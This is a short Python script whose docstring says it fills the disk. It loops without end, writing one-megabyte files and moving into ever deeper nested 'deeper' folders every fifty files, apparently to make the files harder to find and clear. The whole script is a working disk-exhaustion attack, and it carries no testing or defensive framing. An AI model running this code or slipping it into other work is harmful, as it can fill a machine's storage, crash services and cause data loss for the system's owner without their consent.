"""Fills the disk with files that are small enough each, deep down in folders."""

import os, time

number = 0
while True:
    number += 1
    os.makedirs("deeper", exist_ok=True)
    os.chdir("deeper") if number % 50 == 0 else None
    with open(str(number), "wb") as file:
        file.write(b"x" * 1_000_000)
    time.sleep(0.005)
